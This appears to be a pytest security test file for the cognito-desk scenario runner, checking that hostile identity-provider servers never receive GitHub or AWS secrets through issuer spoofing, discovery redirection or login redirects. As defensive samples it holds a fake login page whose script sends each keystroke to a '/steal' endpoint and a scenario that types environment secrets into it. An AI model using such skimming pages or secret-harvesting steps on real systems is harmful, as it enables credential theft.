"""Issue 15 §1, the evidence: a hostile scenario file run as CI runs it (``cognito-desk scenarios run FILE
--endpoint …`` as a subprocess, QtWebEngine offscreen) against hostile loopback servers that record every byte
they receive. No secret value — nor its base64, nor the HTTP Basic header built from it — ever arrives: not
when the file names the attacker as its issuer, not when an approved issuer's discovery document points
elsewhere, not when an approved provider's page redirects the login to another origin."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest

ROOT = Path(__file__).resolve().parents[2]
GITHUB_TOKEN = "ghp_" + "Q7x" * 12
CLIENT_ID = "attacker-client"

LOGIN_PAGE = b"""<!doctype html><html><head><title>Your account is locked. Call IT</title></head><body>
<form method="post" action="/login">
<input id="u" name="u"><button id="go" type="submit">Sign in</button></form>
<script>for (const e of ["input", "change"]) document.getElementById("u").addEventListener(e, ev =>
  fetch("/steal?v=" + encodeURIComponent(ev.target.value)));</script></body></html>"""


class Hostile:
    """A loopback HTTP server that records everything it receives and plays an identity provider."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.discovery: dict[str, str] = {}
        self.authorize_redirect = ""
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _record(self) -> bytes:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                owner.received.append(self.requestline.encode() + b"\n" + bytes(self.headers) + body)
                return body

            def _send(self, status: int, body: bytes, kind: str = "text/html", **headers: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                for key, value in headers.items():
                    self.send_header(key, value)
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:
                self._record()
                if self.path.startswith("/.well-known/openid-configuration"):
                    self._send(200, json.dumps(owner.document()).encode(), "application/json")
                elif self.path.startswith("/authorize") and owner.authorize_redirect:
                    self._send(302, b"", Location=owner.authorize_redirect)
                elif self.path.startswith(("/authorize", "/login")):
                    self._send(200, LOGIN_PAGE)
                else:
                    self._send(404, b"")

            def do_POST(self) -> None:
                self._record()
                self._send(400, b'{"error":"invalid_grant"}', "application/json")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def document(self) -> dict[str, str]:
        return {"issuer": self.url, "authorization_endpoint": f"{self.url}/authorize",
                "token_endpoint": f"{self.url}/token", "jwks_uri": f"{self.url}/jwks", **self.discovery}

    def everything(self) -> bytes:
        return b"\n".join(self.received)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hostile():
    servers = [Hostile(), Hostile()]
    yield servers
    for server in servers:
        server.close()


def forms_of(secret: str) -> list[bytes]:
    """The secret as it could arrive: itself, url-encoded, base64 alone and as HTTP Basic credentials."""
    return [secret.encode(), quote(secret, safe="").encode(), base64.b64encode(secret.encode()),
            base64.b64encode(f"{CLIENT_ID}:{secret}".encode()),
            base64.b64encode(f"{quote(CLIENT_ID)}:{quote(secret, safe='')}".encode())]


ATTACK_STEPS = """client_secret = "env:AWS_SECRET_ACCESS_KEY"

[[steps]]
fill = "#u"
value = "env:GITHUB_TOKEN"
timeout = 5
[[steps]]
click = "#go"
timeout = 5
"""


def attack(tmp_path: Path, service, issuer: str, *allow: str, steps: str = ATTACK_STEPS) -> subprocess.CompletedProcess:
    path = tmp_path / "merged-from-a-pull-request.cdscenario"
    path.write_text(f"""version = 1
name = "innocent looking"
pool_id = "{service.region}:00000000-0000-0000-0000-000000000000"

[provider]
name = "corp"
kind = "oidc"
issuer = "{issuer}"
client_id = "{CLIENT_ID}"
{steps}""")
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "QTWEBENGINE_DISABLE_SANDBOX": "1",
           "AWS_ACCESS_KEY_ID": service.access_key_id, "AWS_SECRET_ACCESS_KEY": service.secret_access_key,
           "GITHUB_TOKEN": GITHUB_TOKEN, "COGNITO_DESK_CONFIG_DIR": str(tmp_path / "config"),
           "COGNITO_DESK_DATA_DIR": str(tmp_path / "data")}
    env.pop("AWS_SESSION_TOKEN", None)
    allowed = [arg for origin in allow for arg in ("--allow-origin", origin)]
    done = subprocess.run([sys.executable, "-m", "cognito_desk", "scenarios", "run", str(path), "--endpoint",
                           service.url, "--history", str(tmp_path / "history.sqlite3"), "--timeout", "60", *allowed],
                          capture_output=True, text=True, env=env, timeout=180, cwd=ROOT)
    assert "Traceback" not in done.stderr, done.stderr
    for secret in (GITHUB_TOKEN, service.secret_access_key):
        assert secret not in done.stdout + done.stderr
    return done


def assert_nothing_leaked(service, *servers: Hostile) -> None:
    for server in servers:
        received = server.everything()
        for secret in (GITHUB_TOKEN, service.secret_access_key):
            for form in forms_of(secret):
                assert form not in received, (server.url, form)


def test_a_file_naming_the_attacker_as_issuer_sends_it_nothing(service, hostile, tmp_path):
    attacker = hostile[0]
    done = attack(tmp_path, service, attacker.url)
    assert_nothing_leaked(service, attacker)
    assert attacker.received == []  # not even the discovery document was asked for
    assert done.returncode == 1, done.stdout + done.stderr
    assert "OriginNotApproved" in done.stdout and f"--allow-origin {attacker.url}" in done.stdout


def test_an_approved_issuers_discovery_cannot_send_the_login_elsewhere(service, hostile, tmp_path):
    approved, attacker = hostile
    approved.discovery = {"authorization_endpoint": f"{attacker.url}/authorize",
                          "token_endpoint": f"{attacker.url}/token"}
    done = attack(tmp_path, service, approved.url, approved.url)
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"authorization endpoint '{attacker.url}' is not an origin approved" in done.stdout
    assert attacker.received == []
    assert [r.split(b"\n", 1)[0] for r in approved.received] == [
        b"GET /.well-known/openid-configuration HTTP/1.1"]
    assert_nothing_leaked(service, approved, attacker)


def test_a_secret_is_typed_only_into_a_page_of_an_approved_origin(service, hostile, tmp_path):
    approved, attacker = hostile
    approved.authorize_redirect = f"{attacker.url}/login"
    done = attack(tmp_path, service, approved.url, approved.url)
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"the page is at {attacker.url}, which is not approved for this run's secrets" in done.stdout
    assert any(r.startswith(b"GET /login") for r in attacker.received)  # the page was shown, nothing typed
    assert_nothing_leaked(service, approved, attacker)


def test_the_history_keeps_no_url_query_and_labels_the_providers_words(service, hostile, tmp_path):
    """Issue 15 §4: a step-timeout message names the page it stayed on — without its query or fragment (codes,
    tokens) — and the page's title as the provider's text, in the output and in the run history."""
    provider = hostile[0]
    provider.authorize_redirect = f"{provider.url}/login?code=LEAKED-CODE&state=s#access_token=LEAKED-TOKEN"
    done = attack(tmp_path, service, provider.url, steps='[[steps]]\nwait_for = "#never"\ntimeout = 2\n')
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"the page stayed at {provider.url}/login?[redacted] (its title, the provider's " \
           "text: 'Your account is locked. Call IT')" in done.stdout
    history = (tmp_path / "history.sqlite3").read_bytes()
    assert b"stayed at" in history
    for leaked in ("LEAKED-CODE", "LEAKED-TOKEN"):
        assert leaked not in done.stdout + done.stderr and leaked.encode() not in history
